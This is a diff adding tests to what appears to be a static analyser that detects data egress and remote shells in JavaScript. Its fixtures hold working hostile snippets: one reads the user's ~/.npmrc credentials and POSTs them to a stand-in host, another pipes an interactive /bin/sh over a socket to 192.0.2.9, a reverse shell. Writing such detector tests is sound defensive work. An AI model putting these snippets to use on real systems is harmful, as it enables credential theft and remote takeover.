@@ -74,6 +74,19 @@ def test_environment_dump_forwarded_to_a_host(tmp_path: Path) -> None:
     assert chain(found, Kind.EGRESS) == [(2, "reads the whole environment"), (3, "sends it to telemetry.example.org")]
 
 
+def test_request_object_written_with_a_secret_names_its_host(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const https = require('https'); const fs = require('fs');\n"
+        "const npmrc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
+        "const req = https.request({ hostname: 'hooks.example.dev', method: 'POST', path: '/n' });\n"
+        "req.write(npmrc);\n"
+        "req.end();\n",
+    )
+    egress = {(c.detail, tuple(e.line for e in c.chain)) for c in found if c.kind == Kind.EGRESS}
+    assert egress == {("hooks.example.dev", (3,)), ("hooks.example.dev", (2, 4))}
+
+
 def test_environment_read_key_by_key_in_a_loop_and_sent(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
@@ -197,6 +210,23 @@ def test_dns_names_built_from_the_environment_and_a_raw_socket(tmp_path: Path) -
         (3, "looks up names built from data under t.exfil.example"),
     ]
     assert (Kind.RAW_SOCKET, "192.0.2.9") in summary(found)
+
+
+def test_socket_piped_to_an_interactive_shell_is_a_remote_shell(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "const net = require('net'), cp = require('child_process');\n"
+        "const c = new net.Socket();\n"
+        "c.connect(4444, '192.0.2.9', () => {\n"
+        "  const sh = cp.spawn('/bin/sh', ['-i']);\n"
+        "  c.pipe(sh.stdin); sh.stdout.pipe(c); sh.stderr.pipe(c);\n"
+        "});\n",
+    )
+    (remote,) = [c for c in found if c.detail == "192.0.2.9 (remote shell)"]
+    assert [(e.line, e.what) for e in remote.chain] == [
+        (3, "opens a raw connection to 192.0.2.9"),
+        (4, "starts an interactive /bin/sh"),
+    ]
 
 
 def test_a_wrapper_function_is_followed_with_its_constant_arguments(tmp_path: Path) -> None:
